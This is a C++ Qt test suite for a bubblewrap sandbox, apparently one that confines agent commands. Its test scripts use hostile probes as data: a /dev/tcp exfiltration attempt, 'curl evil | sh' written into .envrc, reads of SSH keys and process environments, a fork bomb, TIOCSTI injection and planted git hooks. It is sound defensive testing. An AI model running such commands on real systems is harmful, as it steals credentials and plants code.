#include "sandbox/bubblewrapsandbox.h"
#include "sandboxtesting.h"
#include "standinserver.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QProcess>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QtTest>

#include <functional>
#include <thread>

using namespace tandem;
using namespace tandem::sandboxtesting;

namespace {

const QByteArray kCanary = "sk-ant-TEST-CANARY-7f3a";

} // namespace

class tst_BubblewrapSandbox : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void init();
    void cleanup();

    void runsInTheWorkspace();
    void workspaceIsWritable();
    void outsideTheWorkspaceIsReadOnlyOrHidden_data();
    void outsideTheWorkspaceIsReadOnlyOrHidden();
    void gitFolderIsReadOnly();
    void environmentIsClean();
    void homeIsPrivate();
    void runsAsANonRootUser();
    void hasNoNetwork();
    void timeoutKillsTheWholeTree();
    void backgroundChildHoldingThePipeDoesNotBlock();
    void outputIsCapped();
    void floodIsCounted();
    void cancelStopsAtOnce();
    void processCountIsCapped();
    void commandLineHoldsNoSecret();

    void staysWarmBetweenCommands();
    void missingProgramIsAnError();
    void refusedSystemCalls_data();
    void refusedSystemCalls();
    void memoryHogIsReportedAsMemory();
    void cpuBurnerIsStoppedAtTheCpuLimit();
    void oversizedFileIsStoppedAtTheDiskLimit();
    void tmpIsCappedBySize();
    void gitHooksAndConfigAreMasked();
    void createdDeniedPathsAreRemoved();
    void replacedDeniedPathsAreRestored();
    void stopKillsEverything();
    void allowedHostIsReachedThroughTheProxy();
    void unresolvableAllowedHostFailsAtStart();

private:
    sandbox::SandboxPolicy policyWith(const std::function<void(sandbox::ResourceLimits &)> &edit);

    std::unique_ptr<QTemporaryDir> m_home;
    std::unique_ptr<QTemporaryDir> m_workspace;
    std::unique_ptr<sandbox::BubblewrapSandbox> m_sandbox;
};

void tst_BubblewrapSandbox::initTestCase()
{
    if (auto installed = sandbox::BubblewrapSandbox::checkInstalled(); !installed)
        QFAIL(qPrintable(installed.error().message));

    // Secrets the host process holds: none may be visible inside.
    qputenv("ANTHROPIC_API_KEY", kCanary);
    qputenv("TANDEM_GIT_TOKEN", "ghp_TESTCANARY0000000000000000000000000");
    m_home = std::make_unique<QTemporaryDir>();
    writeFile(m_home->filePath(QStringLiteral(".ssh/id_canary")), "CANARY-SSH-KEY");
    qputenv("HOME", m_home->path().toUtf8());
}

void tst_BubblewrapSandbox::init()
{
    m_workspace = std::make_unique<QTemporaryDir>();
    writeFile(m_workspace->filePath(QStringLiteral("hello.txt")), "hello from the workspace\n");
    writeFile(m_workspace->filePath(QStringLiteral(".git/config")), "[core]\n");
    sandbox::SandboxPolicy policy;
    policy.workspace = m_workspace->path();
    m_sandbox = std::make_unique<sandbox::BubblewrapSandbox>(policy);
    auto started = m_sandbox->start();
    QVERIFY2(started.has_value(), started ? "" : qPrintable(started.error().message));
}

void tst_BubblewrapSandbox::cleanup()
{
    m_sandbox->stop();
}

void tst_BubblewrapSandbox::runsInTheWorkspace()
{
    auto result = m_sandbox->exec(shell(QStringLiteral("pwd; cat hello.txt")), {});
    QVERIFY(result.has_value());
    QCOMPARE(result->exitCode, 0);
    QCOMPARE(result->stdoutData, QByteArray("/workspace\nhello from the workspace\n"));
}

void tst_BubblewrapSandbox::workspaceIsWritable()
{
    auto result = m_sandbox->exec(shell(QStringLiteral("echo made > new.txt")), {});
    QVERIFY(result.has_value());
    QCOMPARE(result->exitCode, 0);

    QFile made(m_workspace->filePath(QStringLiteral("new.txt")));
    QVERIFY(made.open(QIODevice::ReadOnly));
    QCOMPARE(made.readAll(), QByteArray("made\n"));
}

void tst_BubblewrapSandbox::outsideTheWorkspaceIsReadOnlyOrHidden_data()
{
    QTest::addColumn<QString>("script");
    QTest::newRow("root") << QStringLiteral("touch /planted");
    QTest::newRow("usr") << QStringLiteral("touch /usr/bin/planted");
    QTest::newRow("etc") << QStringLiteral("echo x >> /etc/passwd");
    QTest::newRow("host home") << QStringLiteral("ls %1").arg(qEnvironmentVariable("HOME"));
    QTest::newRow("root's home") << QStringLiteral("ls /root");
    QTest::newRow("host tmp") << QStringLiteral("ls %1").arg(QDir::tempPath() + "/..");
}

void tst_BubblewrapSandbox::outsideTheWorkspaceIsReadOnlyOrHidden()
{
    QFETCH(QString, script);
    auto result =
        m_sandbox->exec(shell(script + QStringLiteral(" && ls -d /root/* 2>/dev/null")), {});
    QVERIFY(result.has_value());
    QVERIFY2(result->exitCode != 0 || result->stdoutData.isEmpty(), result->stdoutData.constData());
    QVERIFY(!QFile::exists(QStringLiteral("/planted")));
    QVERIFY(!QFile::exists(QStringLiteral("/usr/bin/planted")));
}

void tst_BubblewrapSandbox::gitFolderIsReadOnly()
{
    auto result =
        m_sandbox->exec(shell(QStringLiteral("echo '[core] hooksPath=/tmp' >> .git/config")), {});
    QVERIFY(result.has_value());
    QVERIFY(result->exitCode != 0);

    QFile config(m_workspace->filePath(QStringLiteral(".git/config")));
    QVERIFY(config.open(QIODevice::ReadOnly));
    QCOMPARE(config.readAll(), QByteArray("[core]\n"));
}

void tst_BubblewrapSandbox::environmentIsClean()
{
    auto result = m_sandbox->exec(
        shell(QStringLiteral("env; for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; "
                             "tr '\\0' ' ' < $p/cmdline; echo; done")),
        {});
    QVERIFY(result.has_value());
    QVERIFY(!result->stdoutData.contains("CANARY"));
    QVERIFY(result->stdoutData.contains("HOME=/tmp/home"));
    QVERIFY(!result->stdoutData.contains("DISPLAY="));
    QVERIFY(!result->stdoutData.contains("SSH_AUTH_SOCK="));
}

void tst_BubblewrapSandbox::homeIsPrivate()
{
    auto result = m_sandbox->exec(shell(QStringLiteral("cat ~/.ssh/* %1/.ssh/* 2>&1; ls -A ~")
                                            .arg(qEnvironmentVariable("HOME"))),
                                  {});
    QVERIFY(result.has_value());
    QVERIFY(!result->stdoutData.contains("CANARY"));
}

void tst_BubblewrapSandbox::runsAsANonRootUser()
{
    auto result = m_sandbox->exec(shell(QStringLiteral("id -u")), {});
    QVERIFY(result.has_value());
    QVERIFY(result->stdoutData.trimmed() != "0");
}

void tst_BubblewrapSandbox::hasNoNetwork()
{
    // A listener on the host's loopback records anything that arrives.
    QTcpServer listener;
    QVERIFY(listener.listen(QHostAddress::LocalHost));
    const QString script = QStringLiteral("exec 3<>/dev/tcp/127.0.0.1/%1 && echo leaked >&3")
                               .arg(listener.serverPort());
    auto result = m_sandbox->exec(shell(script), {});
    QVERIFY(result.has_value());

    QTest::qWait(200);
    QVERIFY(!listener.hasPendingConnections());
    QVERIFY(result->exitCode != 0);

    auto links = m_sandbox->exec(shell(QStringLiteral("ls /sys/class/net 2>/dev/null || "
                                                      "cat /proc/net/dev")),
                                 {});
    QVERIFY(links.has_value());
    QVERIFY(!links->stdoutData.contains("eth"));
}

void tst_BubblewrapSandbox::timeoutKillsTheWholeTree()
{
    const QString script =
        QStringLiteral("( sleep 1234.5; touch ./LATE_A ) & "
                       "setsid sh -c 'sleep 1234.6; touch ./LATE_B' & "
                       "nohup sh -c 'while :; do : bwrap-spin; done' >/dev/null 2>&1 & "
                       "exec sleep 1234.8");
    QElapsedTimer clock;
    clock.start();
    auto result = m_sandbox->exec(shell(script, 1500), {});

    QVERIFY(result.has_value());
    QVERIFY(result->timedOut);
    QVERIFY2(clock.elapsed() < 3500, qPrintable(QString::number(clock.elapsed())));
    QTRY_VERIFY_WITH_TIMEOUT(!hostProcessWith(QStringLiteral("sleep 1234")), 2000);
    QVERIFY(!hostProcessWith(QStringLiteral("while :; do : bwrap-spin; done")));
}

void tst_BubblewrapSandbox::backgroundChildHoldingThePipeDoesNotBlock()
{
    QElapsedTimer clock;
    clock.start();
    auto result =
        m_sandbox->exec(shell(QStringLiteral("( sleep 20; echo late ) & exit 0"), 10'000), {});
    QVERIFY(result.has_value());
    QVERIFY(!result->timedOut);
    QVERIFY2(clock.elapsed() < 3000, qPrintable(QString::number(clock.elapsed())));
    QVERIFY(!result->stdoutData.contains("late"));
}

void tst_BubblewrapSandbox::outputIsCapped()
{
    auto request = shell(QStringLiteral("seq 1 300000; echo FINAL-SUMMARY-LINE"));
    request.outputCap = 100'000;
    auto result = m_sandbox->exec(request, {});

    QVERIFY(result.has_value());
    QVERIFY(result->stdoutTruncated);
    QCOMPARE(result->stdoutBytes, qint64(1'988'895 + 19));
    QVERIFY(result->stdoutData.size() < 100'100);
    // The start and the end survive; what is left out between them is counted.
    QVERIFY(result->stdoutData.startsWith("1\n2\n3\n"));
    QVERIFY(result->stdoutData.endsWith("299999\n300000\nFINAL-SUMMARY-LINE\n"));
    QVERIFY(result->stdoutData.contains(" bytes not shown]"));
}

void tst_BubblewrapSandbox::floodIsCounted()
{
    auto request = shell(QStringLiteral("yes 0123456789abcdef | head -c 50000000"));
    request.outputCap = 100'000;
    auto result = m_sandbox->exec(request, {});

    QVERIFY(result.has_value());
    QCOMPARE(result->stdoutBytes, qint64(50'000'000));
    QVERIFY(result->stdoutData.size() < 100'100);
}

void tst_BubblewrapSandbox::cancelStopsAtOnce()
{
    base::CancelToken cancel;
    std::thread stopper([cancel] {
        std::this_thread::sleep_for(std::chrono::milliseconds(200));
        cancel.cancel();
    });
    QElapsedTimer clock;
    clock.start();
    auto result = m_sandbox->exec(shell(QStringLiteral("sleep 1234.9")), cancel);
    stopper.join();

    QVERIFY(result.has_value());
    QVERIFY(result->cancelled);
    QVERIFY(clock.elapsed() < 1500);
    QTRY_VERIFY_WITH_TIMEOUT(!hostProcessWith(QStringLiteral("sleep 1234.9")), 2000);
}

void tst_BubblewrapSandbox::processCountIsCapped()
{
    if (!QFileInfo(QStringLiteral("/sys/fs/cgroup/pids")).isWritable())
        QSKIP("this machine offers no writable pids cgroup (v1)");

    sandbox::SandboxPolicy policy;
    policy.workspace = m_workspace->path();
    policy.limits.processes = 64;
    sandbox::BubblewrapSandbox capped(policy);
    QVERIFY(capped.start().has_value());

    // A bounded stand-in for a fork bomb: fork until refused, 300 at the most.
    const QString forker = QStringLiteral("python3 -c 'import os, time\n"
                                          "n = 0\n"
                                          "for i in range(300):\n"
                                          "    try:\n"
                                          "        pid = os.fork()\n"
                                          "    except OSError:\n"
                                          "        break\n"
                                          "    if pid == 0:\n"
                                          "        time.sleep(1234.4)\n"
                                          "        os._exit(0)\n"
                                          "    n += 1\n"
                                          "print(n)'");
    auto result = capped.exec(shell(forker, 20'000), {});
    QVERIFY(result.has_value());
    const int forked = result->stdoutData.trimmed().toInt();
    QVERIFY2(forked > 0 && forked < 64, result->stdoutData + result->stderrData);
    QTRY_VERIFY_WITH_TIMEOUT(!hostProcessWith(QStringLiteral("time.sleep(1234.4)")), 2000);
}

void tst_BubblewrapSandbox::commandLineHoldsNoSecret()
{
    const QString line = m_sandbox->commandLine().join(' ');
    QVERIFY(!line.contains(QString::fromLatin1(kCanary)));
    QVERIFY(!line.contains(QStringLiteral("TESTCANARY")));
    QVERIFY(line.contains(QStringLiteral("--clearenv")));
    QVERIFY(line.contains(QStringLiteral("--unshare-all")));
}

sandbox::SandboxPolicy
tst_BubblewrapSandbox::policyWith(const std::function<void(sandbox::ResourceLimits &)> &edit)
{
    sandbox::SandboxPolicy policy;
    policy.workspace = m_workspace->path();
    edit(policy.limits);
    return policy;
}

void tst_BubblewrapSandbox::staysWarmBetweenCommands()
{
    // One sandbox for the session: what one command leaves in /tmp the next one sees, and the
    // supervisor that started both is the same process.
    auto first = m_sandbox->exec(shell(QStringLiteral("echo kept > /tmp/note; cat /proc/1/stat "
                                                      "| cut -d' ' -f22")),
                                 {});
    auto second = m_sandbox->exec(shell(QStringLiteral("cat /tmp/note; cat /proc/1/stat | cut "
                                                       "-d' ' -f22")),
                                  {});
    QVERIFY(first && second);
    const QList<QByteArray> lines = second->stdoutData.split('\n');
    QCOMPARE(lines.value(0), QByteArray("kept"));
    QCOMPARE(lines.value(1), first->stdoutData.trimmed());
}

void tst_BubblewrapSandbox::missingProgramIsAnError()
{
    sandbox::ExecRequest request;
    request.argv = {QStringLiteral("no-such-program-here")};
    auto result = m_sandbox->exec(request, {});
    QVERIFY(result.has_value());
    QCOMPARE(result->exitCode, 127);
    QVERIFY2(result->stderrData.contains("No such file"), result->stderrData);
}

void tst_BubblewrapSandbox::refusedSystemCalls_data()
{
    QTest::addColumn<QString>("probe");
    // The terminal probes first make the pty their controlling terminal (the command leads its
    // own session), where TIOCSTI works without privileges unless the filter refuses it.
    const QString prelude = QStringLiteral("import ctypes, errno, fcntl, os, socket, sys\n"
                                           "libc = ctypes.CDLL(None, use_errno=True)\n");
    QTest::newRow("ptrace") << prelude
                                   + QStringLiteral(
                                       "pid = os.fork()\n"
                                       "if pid == 0:\n    os.execvp('sleep', ['sleep', '5'])\n"
                                       "r = libc.ptrace(16, pid, 0, 0)\n"
                                       "os.kill(pid, 9)\n"
                                       "print('ERRNO', ctypes.get_errno() if r != 0 else 0)\n");
    QTest::newRow("tiocsti")
        << prelude
               + QStringLiteral(
                   "import pty, termios\n"
                   "m, s = pty.openpty()\n"
                   "fcntl.ioctl(s, termios.TIOCSCTTY, 0)\n"
                   "try:\n    fcntl.ioctl(s, termios.TIOCSTI, b'x'); print('ERRNO 0')\n"
                   "except OSError as e: print('ERRNO', e.errno)\n");
    QTest::newRow("tiocsti-high-bits")
        << prelude
               + QStringLiteral(
                   "import pty, termios\n"
                   "m, s = pty.openpty()\n"
                   "fcntl.ioctl(s, termios.TIOCSCTTY, 0)\n"
                   "c = ctypes.c_char(b'x')\n"
                   "r = libc.syscall(16, s, ctypes.c_ulong(0xdead00000000 | termios.TIOCSTI), "
                   "ctypes.byref(c))\n"
                   "print('ERRNO', ctypes.get_errno() if r != 0 else 0)\n");
    QTest::newRow("unshare-user") << prelude
                                         + QStringLiteral(
                                             "r = libc.unshare(0x10000000)\nprint('ERRNO', "
                                             "ctypes.get_errno() if r != 0 else 0)\n");
    QTest::newRow("mount") << prelude
                                  + QStringLiteral(
                                      "r = libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)\n"
                                      "print('ERRNO', ctypes.get_errno() if r != 0 else 0)\n");
    QTest::newRow("keyctl") << prelude
                                   + QStringLiteral(
                                       "r = libc.syscall(250, 0, 0, 0, 0, 0)\n"
                                       "print('ERRNO', ctypes.get_errno() if r < 0 else 0)\n");
    QTest::newRow("bpf") << prelude
                                + QStringLiteral("r = libc.syscall(321, 0, 0, 0)\nprint('ERRNO', "
                                                 "ctypes.get_errno() if r < 0 else 0)\n");
    QTest::newRow("perf_event_open")
        << prelude
               + QStringLiteral("r = libc.syscall(298, 0, 0, -1, -1, 0)\n"
                                "print('ERRNO', ctypes.get_errno() if r < 0 else 0)\n");
    QTest::newRow("raw-socket") << prelude
                                       + QStringLiteral(
                                           "try:\n    socket.socket(socket.AF_INET, "
                                           "socket.SOCK_RAW | socket.SOCK_CLOEXEC, 1)\n"
                                           "    print('ERRNO 0')\n"
                                           "except OSError as e: print('ERRNO', e.errno)\n");
    QTest::newRow("packet-socket")
        << prelude
               + QStringLiteral("try:\n    socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0); "
                                "print('ERRNO 0')\n"
                                "except OSError as e: print('ERRNO', e.errno)\n");
}

void tst_BubblewrapSandbox::refusedSystemCalls()
{
    QFETCH(QString, probe);
    sandbox::ExecRequest request;
    request.argv = {QStringLiteral("python3"), QStringLiteral("-c"), probe};
    auto result = m_sandbox->exec(request, {});
    QVERIFY(result.has_value());
    // EPERM from the filter; never 0 (allowed). Another refusal (EACCES, ENOSYS) would mean
    // the filter was not what stopped it.
    QVERIFY2(result->stdoutData.trimmed() == "ERRNO 1", result->stdoutData + result->stderrData);
}

void tst_BubblewrapSandbox::memoryHogIsReportedAsMemory()
{
    if (!QFileInfo(QStringLiteral("/sys/fs/cgroup/memory")).isWritable())
        QSKIP("this machine offers no writable memory cgroup (v1)");
    sandbox::BubblewrapSandbox box(policyWith([](auto &l) { l.memoryBytes = 256 << 20; }));
    QVERIFY(box.start().has_value());

    auto result = box.exec(shell(QStringLiteral("python3 -c \"b = b'x' * (1024 << 20); "
                                                "print(len(b))\"")),
                           {});
    QVERIFY(result.has_value());
    QCOMPARE(result->limitHit, sandbox::LimitHit::Memory);
    QVERIFY(result->exitCode != 0);
}

void tst_BubblewrapSandbox::cpuBurnerIsStoppedAtTheCpuLimit()
{
    sandbox::BubblewrapSandbox box(
        policyWith([](auto &l) { l.cpuTime = std::chrono::seconds(1); }));
    QVERIFY(box.start().has_value());

    QElapsedTimer clock;
    clock.start();
    // Two burners: the limit is CPU time summed over the command, not per process.
    auto result = box.exec(
        shell(QStringLiteral("(while :; do : cpu-spin; done) & while :; do : cpu-spin; done"),
              20'000),
        {});
    QVERIFY(result.has_value());
    QCOMPARE(result->limitHit, sandbox::LimitHit::CpuTime);
    QVERIFY2(clock.elapsed() < 5000, QByteArray::number(clock.elapsed()));
}

void tst_BubblewrapSandbox::oversizedFileIsStoppedAtTheDiskLimit()
{
    sandbox::BubblewrapSandbox box(policyWith([](auto &l) { l.diskBytes = 8 << 20; }));
    QVERIFY(box.start().has_value());

    auto result = box.exec(shell(QStringLiteral("dd if=/dev/zero of=big bs=1M count=64 2>&1")), {});
    QVERIFY(result.has_value());
    QCOMPARE(result->limitHit, sandbox::LimitHit::Disk);
    QVERIFY(QFileInfo(m_workspace->filePath(QStringLiteral("big"))).size() <= 8 << 20);
}

void tst_BubblewrapSandbox::tmpIsCappedBySize()
{
    sandbox::BubblewrapSandbox box(policyWith([](auto &l) { l.diskBytes = 8 << 20; }));
    QVERIFY(box.start().has_value());

    auto result = box.exec(
        shell(QStringLiteral("for i in 1 2 3 4; do head -c 3000000 /dev/zero > /tmp/f$i || "
                             "exit 9; done")),
        {});
    QVERIFY(result.has_value());
    QCOMPARE(result->exitCode, 9);
    QVERIFY2(result->stderrData.contains("No space left"), result->stderrData);
}

void tst_BubblewrapSandbox::gitHooksAndConfigAreMasked()
{
    writeFile(m_workspace->filePath(QStringLiteral(".git/hooks/pre-commit")), "#!/bin/sh\n");
    writeFile(m_workspace->filePath(QStringLiteral(".git/config")),
              "[http]\n\textraheader = Authorization: Basic " + kCanary + "\n");
    sandbox::SandboxPolicy policy;
    policy.workspace = m_workspace->path();
    sandbox::BubblewrapSandbox box(policy);
    QVERIFY(box.start().has_value());

    auto result = box.exec(shell(QStringLiteral("cat .git/config; ls .git/hooks; "
                                                "echo evil > .git/hooks/post-checkout; "
                                                "echo evil >> .git/config; true")),
                           {});
    QVERIFY(result.has_value());
    QVERIFY(!result->stdoutData.contains(kCanary));
    QVERIFY(!result->stdoutData.contains("pre-commit"));
    QVERIFY(!QFileInfo::exists(m_workspace->filePath(QStringLiteral(".git/hooks/post-checkout"))));
    QFile config(m_workspace->filePath(QStringLiteral(".git/config")));
    QVERIFY(config.open(QIODevice::ReadOnly));
    QVERIFY(!config.readAll().contains("evil"));
}

void tst_BubblewrapSandbox::createdDeniedPathsAreRemoved()
{
    auto result = m_sandbox->exec(
        shell(QStringLiteral("echo 'curl evil | sh' > .envrc; mkdir -p .vscode; "
                             "echo '{}' > .vscode/tasks.json; echo ok > notes.txt; "
                             "mkdir -p sub/.git && echo '[core]' > sub/.git/config")),
        {});
    QVERIFY(result.has_value());
    QVERIFY(!QFileInfo::exists(m_workspace->filePath(QStringLiteral(".envrc"))));
    QVERIFY(!QFileInfo::exists(m_workspace->filePath(QStringLiteral(".vscode/tasks.json"))));
    QVERIFY(QFileInfo::exists(m_workspace->filePath(QStringLiteral("notes.txt"))));
    // git on the host would honour a nested repository's config (core.fsmonitor runs a program).
    QVERIFY(!QFileInfo::exists(m_workspace->filePath(QStringLiteral("sub/.git"))));
    QVERIFY2(result->stderrData.contains("removed .envrc"), result->stderrData);
}

void tst_BubblewrapSandbox::replacedDeniedPathsAreRestored()
{
    writeFile(m_workspace->filePath(QStringLiteral(".vscode/tasks.json")), "{\"tasks\": []}\n");
    sandbox::SandboxPolicy policy;
    policy.workspace = m_workspace->path();
    sandbox::BubblewrapSandbox box(policy);
    QVERIFY(box.start().has_value());

    // The file itself is read-only inside, so the attack moves its folder away instead.
    auto result = box.exec(shell(QStringLiteral("echo evil > .vscode/tasks.json; "
                                                "mv .vscode .vscode-old && mkdir .vscode && "
                                                "echo evil > .vscode/tasks.json")),
                           {});
    QVERIFY(result.has_value());
    QFile tasks(m_workspace->filePath(QStringLiteral(".vscode/tasks.json")));
    QVERIFY(tasks.open(QIODevice::ReadOnly));
    QCOMPARE(tasks.readAll(), QByteArray("{\"tasks\": []}\n"));
    QVERIFY2(result->stderrData.contains("restored .vscode/tasks.json"), result->stderrData);
}

void tst_BubblewrapSandbox::stopKillsEverything()
{
    auto result = m_sandbox->exec(
        shell(QStringLiteral("sleep 1234.3 </dev/null >/dev/null 2>&1 & disown; true")), {});
    QVERIFY(result.has_value());
    m_sandbox->stop();
    QTRY_VERIFY_WITH_TIMEOUT(!hostProcessWith(QStringLiteral("sleep 1234.3")), 2000);
    QVERIFY(!m_sandbox->exec(shell(QStringLiteral("true")), {}).has_value());
}

void tst_BubblewrapSandbox::allowedHostIsReachedThroughTheProxy()
{
    StandInServer allowed(StandInServer::Mode::Http);
    StandInServer other(StandInServer::Mode::Http);
    sandbox::SandboxPolicy policy;
    policy.workspace = m_workspace->path();
    policy.allowedHosts = {QStringLiteral("127.0.0.1:%1").arg(allowed.port())};
    sandbox::BubblewrapSandbox box(policy);
    std::vector<std::string> decisions;
    box.setEventSink([&](const std::string &kind, nlohmann::json fields) {
        if (kind == "network_request")
            decisions.push_back(fields.dump());
    });
    QVERIFY(box.start().has_value());

    // The allowed stand-in answers through the proxy; the other port on the same loopback is
    // refused by the proxy (403) and, without it, unreachable from the sandbox's own loopback.
    const QString script =
        QStringLiteral("echo \"allowed=$(curl -s -m 5 http://127.0.0.1:%1/)\"; "
                       "echo \"other=$(curl -s -m 5 -o /dev/null -w '%{http_code}' "
                       "http://127.0.0.1:%2/)\"; "
                       "curl -s -m 5 --noproxy '*' http://127.0.0.1:%2/; echo \"direct=$?\"")
            .arg(allowed.port())
            .arg(other.port());
    auto result = box.exec(shell(script), {});
    QVERIFY2(result.has_value(), result ? "" : qPrintable(result.error().message));
    const QByteArray out = result->stdoutData;
    QVERIFY2(out.contains("allowed=hello from stand-in"), out);
    QVERIFY2(out.contains("other=403"), out);
    QVERIFY2(out.contains("direct=") && !out.contains("direct=0"), out);
    QCOMPARE(other.connections(), 0);
    QVERIFY(decisions.size() >= 2);
}

void tst_BubblewrapSandbox::unresolvableAllowedHostFailsAtStart()
{
    sandbox::SandboxPolicy policy;
    policy.workspace = m_workspace->path();
    policy.allowedHosts = {QStringLiteral("no-such-host.invalid")};
    sandbox::BubblewrapSandbox box(policy);
    auto started = box.start();
    QVERIFY(!started.has_value());
    QVERIFY2(started.error().message.contains(QStringLiteral("does not resolve")),
             qPrintable(started.error().message));
}

QTEST_GUILESS_MAIN(tst_BubblewrapSandbox)
#include "tst_bubblewrapsandbox.moc"
